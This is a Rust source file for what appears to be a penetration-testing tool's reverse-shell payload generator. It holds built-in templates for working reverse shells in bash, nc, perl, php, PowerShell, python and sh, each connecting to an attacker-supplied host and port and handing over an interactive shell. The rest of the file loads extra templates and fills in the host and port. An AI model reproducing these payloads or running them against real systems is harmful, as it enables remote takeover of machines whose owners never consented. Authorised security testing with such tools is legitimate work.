//! Reverse-shell payload templates.
//!
//! Templates are plain text with `{{lhost}}`, `{{lport}}` and
//! `{{srvhost_url}}` placeholders. A fixed set is built in; a template
//! directory can add more or replace built-ins by file name.

use std::collections::BTreeMap;
use std::fs;
use std::net::IpAddr;
use std::path::Path;

use anyhow::{Context, Result};
use thiserror::Error;
use tracing::debug;

use crate::config::PayloadConfig;

/// Built-in templates, keyed by name.
const BUILTIN_TEMPLATES: &[(&str, &str)] = &[
    ("bash", "bash -i >& /dev/tcp/{{lhost}}/{{lport}} 0>&1\n"),
    (
        "nc",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {{lhost}} {{lport}} > /tmp/f\n",
    ),
    (
        "perl",
        "perl -e 'use Socket;$i=\"{{lhost}}\";$p={{lport}};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n",
    ),
    (
        "php",
        "php -r '$sock=fsockopen(\"{{lhost}}\",{{lport}});exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n",
    ),
    (
        "powershell",
        "$client = New-Object System.Net.Sockets.TCPClient('{{lhost}}',{{lport}});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\n",
    ),
    (
        "python",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{{lhost}}\",{{lport}}));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'\n",
    ),
    ("sh", "/bin/sh -i >& /dev/tcp/{{lhost}}/{{lport}} 0>&1\n"),
];

/// Errors from payload generation.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum PayloadError {
    /// The host is not an IP address.
    #[error("invalid lhost: {0}")]
    InvalidHost(String),

    /// The port is not a non-zero 16-bit number.
    #[error("invalid lport: {0}")]
    InvalidPort(String),
}

/// Renders payload templates for a target host and port.
#[derive(Debug, Clone)]
pub struct PayloadGenerator {
    templates: BTreeMap<String, String>,
    default_lhost: String,
    default_lport: u16,
}

impl PayloadGenerator {
    /// Create a generator with only the built-in templates.
    pub fn new(default_lhost: impl Into<String>, default_lport: u16) -> Self {
        let templates = BUILTIN_TEMPLATES
            .iter()
            .map(|(name, body)| (name.to_string(), body.to_string()))
            .collect();

        Self {
            templates,
            default_lhost: default_lhost.into(),
            default_lport,
        }
    }

    /// Create a generator from configuration, loading `template_dir` if set.
    pub fn from_config(config: &PayloadConfig) -> Result<Self> {
        let mut generator = Self::new(config.default_lhost.clone(), config.default_lport);
        if let Some(dir) = &config.template_dir {
            generator.load_dir(dir)?;
        }
        Ok(generator)
    }

    /// Add every regular file in `dir` as a template named after the file.
    pub fn load_dir(&mut self, dir: &Path) -> Result<()> {
        let entries = fs::read_dir(dir)
            .with_context(|| format!("Failed to read template directory: {}", dir.display()))?;

        for entry in entries {
            let entry = entry.with_context(|| {
                format!("Failed to read template directory: {}", dir.display())
            })?;
            let path = entry.path();
            if !path.is_file() {
                continue;
            }

            let name = entry.file_name().to_string_lossy().to_string();
            let body = fs::read_to_string(&path)
                .with_context(|| format!("Failed to read template: {}", path.display()))?;

            debug!(name = %name, path = %path.display(), "Loaded payload template");
            self.templates.insert(name, body);
        }

        Ok(())
    }

    /// Sorted template names.
    pub fn template_names(&self) -> Vec<&str> {
        self.templates.keys().map(String::as_str).collect()
    }

    /// Whether a template with this name exists.
    pub fn contains(&self, name: &str) -> bool {
        self.templates.contains_key(name)
    }

    /// Host used when a request gives none.
    pub fn default_lhost(&self) -> &str {
        &self.default_lhost
    }

    /// Port used when a request gives none.
    pub fn default_lport(&self) -> u16 {
        self.default_lport
    }

    /// Render the template `name`.
    ///
    /// Returns `Ok(None)` for an unknown template.
    pub fn generate(
        &self,
        name: &str,
        lhost: Option<&str>,
        lport: Option<&str>,
        srvhost_url: &str,
    ) -> Result<Option<String>, PayloadError> {
        let template = match self.templates.get(name) {
            Some(t) => t,
            None => return Ok(None),
        };

        let lhost = match lhost {
            Some(host) => host
                .parse::<IpAddr>()
                .map_err(|_| PayloadError::InvalidHost(host.to_string()))?
                .to_string(),
            None => self.default_lhost.clone(),
        };

        let lport = match lport {
            Some(port) => match port.parse::<u16>() {
                Ok(p) if p != 0 => p,
                _ => return Err(PayloadError::InvalidPort(port.to_string())),
            },
            None => self.default_lport,
        };

        Ok(Some(
            template
                .replace("{{lhost}}", &lhost)
                .replace("{{lport}}", &lport.to_string())
                .replace("{{srvhost_url}}", srvhost_url),
        ))
    }
}
